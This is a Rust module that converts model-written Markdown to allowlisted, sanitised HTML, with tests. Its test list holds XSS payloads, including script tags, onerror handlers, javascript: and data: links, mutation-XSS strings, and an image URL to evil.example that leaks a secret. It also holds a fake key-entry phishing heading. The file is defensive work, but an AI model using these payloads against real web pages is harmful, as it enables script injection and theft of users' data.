//! Converts Markdown from a model to HTML that is safe to show: the model's text can't add its own markup.
//!
//! There are two safeguards. HTML in the text is escaped and shown as text. The rest of the output is reduced to a list
//! of elements and attributes that can neither run nor load anything.

use ammonia::{Builder, UrlRelative};
use pulldown_cmark::{CowStr, Event, Options, Parser, Tag, TagEnd, html};
use std::borrow::Cow;
use std::collections::{HashMap, HashSet};
use std::sync::LazyLock;

/// Elements that the output may contain.
const ELEMENTS: [&str; 28] = [
    "a",
    "blockquote",
    "br",
    "code",
    "dd",
    "del",
    "dl",
    "dt",
    "em",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "li",
    "ol",
    "p",
    "pre",
    "strong",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "tr",
    "ul",
];

/// Texts with blocks nested deeper than this are shown as plain text: nobody writes them, and their tree would be deep.
const MAX_DEPTH: usize = 64;

/// Texts with more parts than this are shown as plain text: each part becomes a node of the tree that checks them.
const MAX_EVENTS: usize = 200_000;

static CLEAN: LazyLock<Builder<'static>> = LazyLock::new(|| {
    let mut builder = Builder::empty();
    let attributes: [(&str, HashSet<&str>); 5] = [
        ("a", HashSet::from(["href", "title"])),
        ("code", HashSet::from(["class"])),
        ("ol", HashSet::from(["start"])),
        ("td", HashSet::from(["align"])),
        ("th", HashSet::from(["align"])),
    ];
    builder
        .tags(HashSet::from(ELEMENTS))
        .tag_attributes(HashMap::from(attributes))
        .url_schemes(HashSet::from(["http", "https", "mailto"]))
        .url_relative(UrlRelative::Deny)
        .link_rel(Some("noopener noreferrer nofollow"))
        .set_tag_attribute_value("a", "target", "_blank")
        .attribute_filter(|element, attribute, value| match (element, attribute) {
            ("code", "class") => is_language(value).then_some(Cow::Borrowed(value)),
            _ => Some(Cow::Borrowed(value)),
        });
    builder
});

/// Whether a class is `language-` and a plain name: a text can't use the classes of the page.
fn is_language(class: &str) -> bool {
    let plain = |c: char| c.is_ascii_alphanumeric() || "+-#._".contains(c);
    class.strip_prefix("language-").is_some_and(|name| name.len() <= 32 && name.chars().all(plain))
}

/// Converts the text to HTML.
pub fn to_html(markdown: &str) -> String {
    let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
    let mut depth = 0usize;
    let mut too_deep = false;
    let mut events = 0usize;
    let parser = Parser::new_ext(markdown, options).inspect(|event| {
        events += 1;
        match event {
            Event::Start(_) => {
                depth += 1;
                too_deep |= depth > MAX_DEPTH;
            }
            Event::End(_) => depth -= 1,
            _ => {}
        }
    });
    let mut made = String::with_capacity(markdown.len() * 3 / 2);
    html::push_html(&mut made, parser.map(plain));
    if too_deep || events > MAX_EVENTS {
        return format!("<pre>{}</pre>", ammonia::clean_text(markdown));
    }
    // The renderer aligns cells with `style`, which the page's policy forbids.
    for cell in ["<th", "<td"] {
        made = made.replace(&format!("{cell} style=\"text-align: "), &format!("{cell} align=\""));
    }
    CLEAN.clean(&made).to_string()
}

/// HTML becomes text and an image becomes a link to it: loading an image from an address that a model chose could
/// reveal the conversation.
fn plain(event: Event<'_>) -> Event<'_> {
    match event {
        Event::Html(text) | Event::InlineHtml(text) => Event::Text(text),
        Event::Start(Tag::HtmlBlock) => Event::Start(Tag::Paragraph),
        Event::End(TagEnd::HtmlBlock) => Event::End(TagEnd::Paragraph),
        Event::Start(Tag::Image { link_type, dest_url, title, id }) => {
            Event::Start(Tag::Link { link_type, dest_url, title, id })
        }
        Event::End(TagEnd::Image) => Event::End(TagEnd::Link),
        Event::TaskListMarker(done) => Event::Text(CowStr::Borrowed(if done { "☑ " } else { "☐ " })),
        other => other,
    }
}

#[cfg(test)]
mod tests {
    use super::to_html;

    #[test]
    fn what_models_write_looks_as_meant() {
        let html = to_html("# T\n\na **b** `c` ~~d~~\n\n- [x] e\n\n```rust\nlet x = 1 < 2;\n```\n");
        for part in [
            "<h1>T</h1>",
            "<strong>b</strong>",
            "<code>c</code>",
            "<del>d</del>",
            "<ul>\n<li>☑ e</li>",
            "<code class=\"language-rust\">let x = 1 &lt; 2;",
        ] {
            assert!(html.contains(part), "{part} in {html}");
        }
        let table = to_html("|a|b|\n|--|-:|\n|1|2|\n");
        assert!(table.contains("<td align=\"right\">2</td>"), "{table}");
        assert!(to_html("[x](https://example.org)").contains("href=\"https://example.org\""));
        assert!(to_html("[x](https://example.org)").contains("rel=\"noopener noreferrer nofollow\""));
    }

    #[test]
    fn html_is_shown_and_not_obeyed() {
        let html = to_html("a <b onclick=x>c</b>\n\n<script>alert(1)</script>\n\n<style>p{}</style>");
        assert!(html.contains("&lt;b onclick=x&gt;c&lt;/b&gt;"), "{html}");
        assert!(html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"), "{html}");
        assert!(html.contains("&lt;style&gt;"), "{html}");
    }

    #[test]
    fn hostile_texts_give_nothing_that_runs_or_loads() {
        let hostile = [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "<svg><script>alert(1)</script></svg>",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
            "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
            "<!--><script>alert(1)</script>-->",
            "<a href=\"javascript:alert(1)\">x</a>",
            "[x](javascript:alert(1))",
            "[x](JaVaScRiPt:alert(1))",
            "[x](&#106;avascript:alert(1))",
            "[x](java\tscript:alert(1))",
            "[x](data:text/html;base64,PHNjcmlwdD4=)",
            "[x](vbscript:x)",
            "[x](/v1/models)",
            "[x](//evil.example)",
            "<javascript:alert(1)>",
            "![x](https://evil.example/?q=secret)",
            "![x](javascript:alert(1))",
            "![x\" onerror=\"alert(1)](y)",
            "[x](https://e.example \"t\\\" onmouseover=alert(1) x=\\\"\")",
            "```x\" onmouseover=\"alert(1)\ny\n```",
            "```hero dialog\ny\n```",
            "`<script>`",
            "| <script>alert(1)</script> |\n|--|\n| <img src=x onerror=alert(1)> |",
            "<form action=/v1/x><input name=q autofocus onfocus=alert(1)></form>",
            "<p style=\"background:url(https://evil.example)\" id=composer class=dialog>x</p>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<textarea><script>alert(1)</script>",
            "<base href=https://evil.example><meta http-equiv=refresh content=0>",
            "\0<scr\0ipt>alert(1)</script>",
            "</div></main><h1>Zonda: enter your key</h1>",
        ];
        for text in hostile {
            let html = to_html(text);
            check(&html, text);
            check(&to_html(&format!("# a\n> - {text}")), text);
        }
    }

    /// Every tag and attribute is on the lists; nothing else opens a tag.
    fn check(html: &str, text: &str) {
        for tag in html.split('<').skip(1) {
            let (tag, _) = tag.split_once('>').unwrap_or_else(|| panic!("an open tag in {html} of {text:?}"));
            let name = tag.trim_start_matches('/').split(' ').next().unwrap();
            assert!(super::ELEMENTS.contains(&name), "<{name}> in {html} of {text:?}");
            let attributes = tag.split_once(' ').map_or("", |(_, rest)| rest);
            for (name, value) in attributes.split("\" ").filter_map(|a| a.split_once("=\"")) {
                let fine = match name {
                    "href" => ["https://", "http://", "mailto:"].iter().any(|s| value.starts_with(s)),
                    "class" => value.starts_with("language-") && !value.contains(' '),
                    "rel" | "target" | "title" | "start" | "align" => true,
                    _ => false,
                };
                assert!(fine, "{name}={value} in {html} of {text:?}");
            }
        }
    }

    #[test]
    fn deep_and_long_texts_end() {
        for text in ["> ".repeat(20_000), "- ".repeat(5_000), "[".repeat(20_000), "*a ".repeat(20_000)] {
            check(&to_html(&text), "deep");
        }
    }
}
